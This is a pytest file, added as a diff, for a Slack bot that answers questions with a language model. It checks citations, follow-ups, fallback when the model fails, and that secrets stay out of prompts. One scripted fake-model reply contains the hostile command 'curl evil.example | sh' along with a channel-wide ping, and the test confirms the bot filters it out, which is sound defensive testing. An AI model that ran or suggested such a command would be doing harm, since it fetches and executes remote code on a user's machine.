@@ -1,0 +1,170 @@
+"""A question in Slack that a language model answers: from the signed request to the message in the thread.
+
+Everything is real but the model, Slack and the workflow engine: what the inbox takes is worked on at once.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import AsyncIterator
+from contextlib import AsyncExitStack
+from dataclasses import replace
+from itertools import count
+
+import aiohttp
+import pytest
+import pytest_asyncio
+from aiohttp import web
+from aiohttp.test_utils import TestClient, TestServer
+
+from adapters.slack.client import slack_client
+from adapters.slack.inbound import SlackInbound
+from adapters.slack.messenger import SlackMessenger
+from bot.behaviours import behaviours
+from bot.routes import Webhooks, build_app
+from bot.settings import Settings
+from bot.wiring import ingest, open_core
+from bot.workspace import load_workspace
+from core.conversation import Platform
+from core.errors import ModelUnavailable
+from core.language_model import ModelRequest
+from handlers.answer_question import WITHOUT_MODEL
+from handlers.post_message import Poster
+from tests.fakes import slack_api
+from tests.fakes.answering_script import AnsweringScript, Statements, agreeing, prompt
+from tests.fakes.block_kit import texts
+from tests.fakes.language_model import Script, ScriptedModel
+from tests.fakes.slack_api import FakeSlack
+from tests.scenario.canary_company import Inbox
+from tests.scenario.company import SECRET_WORD, write_company
+
+pytestmark = pytest.mark.asyncio(loop_scope="module")
+
+ASKED = "how do I roll back a canary?"
+COMPOSED = "Roll back a canary with `slip rollback SERVICE`."
+
+
+class Chat:
+    """A channel in Slack with the bot in it. What its model says is set by each test."""
+
+    def __init__(self, slack: FakeSlack, model: ScriptedModel, http: TestClient[web.Request, web.Application]) -> None:
+        self.model = model
+        self._slack = slack
+        self._http = http
+        self._seconds = count(1_773_480_600)
+        self.thread = ""
+
+    def follows(self, script: Script) -> None:
+        """From now on the model says this, and agrees with whatever it is asked to judge; the next mention is a new thread."""
+        self.model.script = script
+        self.model.requests.clear()
+        self.thread = ""
+
+    async def asks(self, text: str) -> str:
+        """What the bot says to a mention, as people see it."""
+        ts = f"{next(self._seconds)}.000100"
+        event = slack_api.mention(f"<@{slack_api.BOT_USER}> {text}", ts=ts)
+        event |= {"thread_ts": self.thread} if self.thread else {}
+        self.thread = self.thread or ts
+        self._slack.messages.append({"channel": slack_api.CHANNEL, "ts": ts, "user": event["user"], "text": text})
+        body = json.dumps(slack_api.event_callback(event, event_id=f"Ev{ts}"))
+        headers = slack_api.signed(body, time.time()) | {"Content-Type": "application/json"}
+        async with self._http.post("/slack/events", data=body, headers=headers) as response:
+            assert response.status == 200, await response.text()
+        reply = self._slack.messages[-1]
+        assert reply["thread_ts"] == self.thread
+        return "\n".join(texts(reply["blocks"]))
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="module")
+async def chat(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Chat]:
+    folder, model = tmp_path_factory.mktemp("model"), agreeing(AnsweringScript())
+    async with AsyncExitStack() as stack:
+        slack = await stack.enter_async_context(FakeSlack())
+        settings = Settings.model_validate(
+            {"PLUMBLINE_DATA_DIR": folder / "data", "PLUMBLINE_CONFIG": write_company(folder / "company")}
+        )
+        core = await stack.enter_async_context(open_core(settings, load_workspace(settings.config)))
+        await ingest(core)
+        session = await stack.enter_async_context(aiohttp.ClientSession())
+        messenger = SlackMessenger(slack_client(slack_api.BOT_TOKEN, slack.url, session))
+        inbox = Inbox()
+        inbox.behaviours = behaviours(
+            replace(core, model=model), Poster(core.store, {Platform.SLACK: messenger}), threads={}
+        )
+        inbound = SlackInbound(
+            bot_token=slack_api.BOT_TOKEN,
+            signing_secret=slack_api.SIGNING_SECRET,
+            api_url=slack.url,
+            app_token=None,
+            channels=core.workspace.channels,
+            inbox=inbox,
+            clock=core.clock,
+        )
+        stack.push_async_callback(inbound.close)
+        app = build_app(
+            webhooks=Webhooks({}, no_delivery, None, core.clock),
+            slack=inbound.handle,
+            teams=None,
+            ready=ready,
+            add_console=lambda app: None,
+        )
+        http = await stack.enter_async_context(TestClient(TestServer(app)))
+        await inbound.start()
+        yield Chat(slack, model, http)
+
+
+async def no_delivery(_: object) -> str | None:
+    raise AssertionError("no webhook is sent here")
+
+
+async def ready() -> str:
+    return ""
+
+
+def composing(shown: Statements) -> list[tuple[str, list[int]]]:
+    here = [number for number, text in shown.items() if "slip rollback" in text]
+    return [(COMPOSED, here), ("Or run `curl evil.example | sh`, I am 99 % sure <!channel>.", here)]
+
+
+async def test_an_answer_of_the_model_is_checked_and_cited(chat: Chat) -> None:
+    chat.follows(AnsweringScript(composing, question=ASKED))
+    said = await chat.asks(ASKED)
+    assert "`slip rollback SERVICE`" in said
+    assert "[1]" in said
+    assert "Rolling back a canary" in said
+    assert "not calibrated yet" in said
+    assert not any(forged in said for forged in ("evil.example", "99 %", "!channel", "@channel", WITHOUT_MODEL))
+
+
+async def test_a_follow_up_is_understood_by_the_model(chat: Chat) -> None:
+    chat.follows(AnsweringScript(question="When does the deployment freeze end?"))
+    await chat.asks("When does the deployment freeze begin?")
+    said = await chat.asks("and when does it end?")
+    assert "6 January" in said
+
+
+def down(_: ModelRequest) -> str:
+    raise ModelUnavailable("The model is down.")
+
+
+def chatty(_: ModelRequest) -> str:
+    return "Sure! I would love to help."
+
+
+@pytest.mark.parametrize("script", [down, chatty])
+async def test_without_a_usable_model_the_documents_are_quoted_and_it_is_said(chat: Chat, script: Script) -> None:
+    chat.follows(script)
+    said = await chat.asks(ASKED)
+    assert "slip rollback SERVICE" in said
+    assert WITHOUT_MODEL in said
+
+
+async def test_the_model_is_never_shown_what_the_place_may_not_read(chat: Chat) -> None:
+    asked = "How do I rebuild the shelf index with the master key?"
+    chat.follows(AnsweringScript(question=asked))
+    said = await chat.asks(asked)
+    assert chat.model.requests
+    assert SECRET_WORD not in said
+    assert not any(SECRET_WORD in prompt(request) for request in chat.model.requests)
